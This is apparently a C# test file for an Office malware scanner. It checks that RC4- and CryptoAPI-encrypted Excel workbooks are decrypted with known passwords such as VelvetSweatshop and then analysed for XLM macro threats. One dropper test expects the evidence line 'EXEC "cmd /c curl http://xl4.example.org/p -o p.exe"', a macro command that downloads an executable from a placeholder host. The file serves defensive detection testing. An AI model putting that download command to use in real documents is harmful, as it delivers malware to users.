using Crible.Model;
using Crible.Scanners.Office.Encryption;
using Crible.Scanners.Office.Ole;
using Crible.Tests.Scanners.Office.Xlm;

namespace Crible.Tests.Scanners.Office.Encryption;

public sealed class ExcelEncryptedWorkbookTests
{
    private const string Velvet = EncryptedDocumentEmitter.DefaultPassword;

    [Theory]
    [InlineData(ExcelTestScheme.Rc4, Velvet, "RC4, 40-bit key, MD5")]
    [InlineData(ExcelTestScheme.Rc4, "Password1!", "RC4, 40-bit key, MD5")]
    [InlineData(ExcelTestScheme.CryptoApi40, Velvet, "RC4 CryptoAPI, 40-bit key, SHA1")]
    [InlineData(ExcelTestScheme.CryptoApi128, Velvet, "RC4 CryptoAPI, 128-bit key, SHA1")]
    [InlineData(ExcelTestScheme.CryptoApi128, "Password1!", "RC4 CryptoAPI, 128-bit key, SHA1")]
    public void An_encrypted_workbook_decrypts_to_the_Workbook_stream_msoffcrypto_gives_with_the_other_streams_unchanged(ExcelTestScheme scheme, string password, string description)
    {
        var plain = OfficeTestFiles.Strelka("test.xls");
        var encrypted = ExcelTestEncryptor.Encrypt(plain, password, scheme);
        var expected = ExcelTestEncryptor.DecryptedWorkbook(plain, scheme);
        Assert.NotEqual(expected, ExcelTestEncryptor.Workbook(encrypted));
        Assert.Equal(expected, ExcelTestEncryptor.Workbook(MsOffCryptoTool.Decrypt(encrypted, password)));
        using var file = CompoundFile.Open(encrypted);

        var document = EncryptedDocumentReader.Open(file, 1 << 24);
        Assert.Equal(description, document.Scheme);
        Assert.False(document.TryPassword("wrong", CancellationToken.None));
        Assert.True(document.TryPassword(password, CancellationToken.None));
        var decrypted = document.Decrypt(1 << 24, CancellationToken.None);

        Assert.Empty(decrypted.Problems);
        Assert.Equal(expected, ExcelTestEncryptor.Workbook(decrypted.Content));
        Assert.Equal(Streams(plain).Where(s => !s.StartsWith("Workbook ", StringComparison.Ordinal)), Streams(decrypted.Content).Where(s => !s.StartsWith("Workbook ", StringComparison.Ordinal)));
    }

    [Theory]
    [InlineData(ExcelTestScheme.Rc4)]
    [InlineData(ExcelTestScheme.CryptoApi128)]
    public async Task The_Strelka_XLM_workbook_encrypted_with_VelvetSweatshop_shows_the_same_macro_sheet_findings_as_in_clear(ExcelTestScheme scheme)
    {
        var plain = OfficeTestFiles.Strelka("test.xls");
        var plainReport = await TestEngine.Default.AnalyseAsync(plain, "test.xls");

        var report = await TestEngine.Default.AnalyseAsync(ExcelTestEncryptor.Encrypt(plain, Velvet, scheme), "test.xls");

        Assert.Equal("Encrypted document opened with Excel's default password", Assert.Single(report.Nodes[0].Findings, f => f.Id == "password").Title);
        Assert.DoesNotContain(report.Nodes[0].Incomplete, r => r.StartsWith("encrypted", StringComparison.Ordinal));
        Assert.DoesNotContain(report.Nodes[0].Findings, f => f.Scanner == "xlm");
        var decrypted = Assert.Single(report.Nodes, n => n.Name == "test.xls (decrypted)");
        Assert.Equal("xls", decrypted.Kind);
        Assert.Empty(decrypted.Incomplete);
        Assert.Equal("Macro1 (Hidden)", Assert.Single(decrypted.Findings, f => f.Id == "xlm-hidden-macro-sheet").Evidence);
        Assert.Equal(XlmFindings(plainReport.Nodes[0]), XlmFindings(decrypted));
        Assert.Contains(decrypted.Iocs, i => i.Value == "https://www.example.com/path/to/resource");
        Assert.Equal(plainReport.Verdict, report.Verdict);
    }

    [Fact]
    public async Task An_XLM_dropper_encrypted_with_a_known_password_is_malicious_once_decrypted()
    {
        var encrypted = ExcelTestEncryptor.Encrypt(XlmScannerTests.Workbook(), "request-password", ExcelTestScheme.CryptoApi128);

        var report = await TestEngine.Default.AnalyseAsync(encrypted, "salary.xls", "request-password");

        Assert.Equal(Verdict.Malicious, report.Verdict);
        Assert.StartsWith("'request-password', RC4 CryptoAPI", Assert.Single(report.Nodes[0].Findings, f => f.Id == "password").Evidence, StringComparison.Ordinal);
        var decrypted = Assert.Single(report.Nodes, n => n.Name == "salary.xls (decrypted)");
        Assert.Contains("Macro1!R1C1: EXEC \"cmd /c curl http://xl4.example.org/p -o p.exe\"", Assert.Single(decrypted.Findings, f => f.Id == "xlm-auto-exec-payload").Evidence);
    }

    [Fact]
    public async Task A_workbook_with_an_encryption_stream_is_analysed_and_said_incomplete_for_what_that_stream_hides()
    {
        var encrypted = ExcelTestEncryptor.Encrypt(XlmScannerTests.Workbook(), Velvet, ExcelTestScheme.CryptoApi128);
        var builder = new CompoundFileBuilder();
        builder.AddStream("Workbook", ExcelTestEncryptor.Workbook(encrypted));
        builder.AddStream("encryption", OfficeTestFiles.Pattern(600, 7));

        var report = await TestEngine.Default.AnalyseAsync(builder.ToArray(), "salary.xls");

        Assert.Equal(Verdict.Malicious, report.Verdict);
        Assert.Contains("ole: decrypted document: the 'encryption' stream is not decrypted: what RC4 CryptoAPI moves there (summary properties, controls, embedded objects) is not analysed", report.Nodes[0].Incomplete);
        Assert.Single(Assert.Single(report.Nodes, n => n.Name == "salary.xls (decrypted)").Findings, f => f.Id == "xlm-auto-exec-payload");
    }

    [Fact]
    public async Task Without_a_password_that_opens_it_a_workbook_is_unanalysable_with_the_passwords_tried()
    {
        var encrypted = ExcelTestEncryptor.Encrypt(XlmScannerTests.Workbook(), "not-in-any-list", ExcelTestScheme.Rc4);

        var report = await TestEngine.Default.AnalyseAsync(encrypted, "salary.xls", "request-password");

        Assert.Equal(Verdict.Unanalysable, report.Verdict);
        Assert.Equal(
            "encrypted: Excel workbook protected by RC4 encryption (RC4, 40-bit key, MD5); no known password opens it (7 tried: 'VelvetSweatshop', 'request-password', 'infected', 'virus', 'malware', 'password', '123456')",
            Assert.Single(report.Nodes[0].Incomplete));
        Assert.DoesNotContain(report.Nodes, n => n.Name.EndsWith("(decrypted)", StringComparison.Ordinal));
    }

    [Fact]
    public async Task A_cut_FILEPASS_record_is_unanalysable_with_the_damage_named()
    {
        var encrypted = ExcelTestEncryptor.Encrypt(XlmScannerTests.Workbook(), Velvet, ExcelTestScheme.Rc4, filePassLength: 30);

        var report = await TestEngine.Default.AnalyseAsync(encrypted, "cut.xls");

        Assert.Equal(Verdict.Unanalysable, report.Verdict);
        Assert.Equal("encrypted: Excel workbook protected by RC4 encryption; the encryption data is damaged (16 bytes needed at offset 22, 8 left)", Assert.Single(report.Nodes[0].Incomplete));
    }

    [Fact]
    public async Task An_XOR_obfuscated_workbook_is_unanalysable_as_not_supported()
    {
        var plain = XlmScannerTests.Workbook();
        var obfuscated = ExcelTestEncryptor.Replace(plain, ExcelTestEncryptor.WithFilePass(ExcelTestEncryptor.Workbook(plain), [0, 0, 0x34, 0x12, 0x78, 0x56]));

        var report = await TestEngine.Default.AnalyseAsync(obfuscated, "xor.xls");

        Assert.Equal(Verdict.Unanalysable, report.Verdict);
        Assert.Equal("encrypted: Excel workbook protected by XOR obfuscation; Excel XOR obfuscation is not supported", Assert.Single(report.Nodes[0].Incomplete));
    }

    private static string[] XlmFindings(ReportNode node) =>
        [.. node.Findings.Where(f => f.Scanner == "xlm").Select(f => $"{f.Id} {f.Severity} {f.Evidence}").Order(StringComparer.Ordinal)];

    /// <summary>Every stream's path and SHA-256, sorted.</summary>
    private static List<string> Streams(byte[] compoundFile)
    {
        using var file = CompoundFile.Open(compoundFile);
        var streams = new List<string>();
        var pending = new Stack<CompoundFileDirectoryEntry>(file.ChildrenOf(file.Root));
        while (pending.Count > 0)
        {
            var entry = pending.Pop();
            foreach (var child in file.ChildrenOf(entry))
            {
                pending.Push(child);
            }

            if (entry.IsStream)
            {
                streams.Add($"{file.PathOf(entry)} {Convert.ToHexString(System.Security.Cryptography.SHA256.HashData(file.ReadStream(entry, 1 << 24, out _)))}");
            }
        }

        streams.Sort(StringComparer.Ordinal);
        return streams;
    }
}
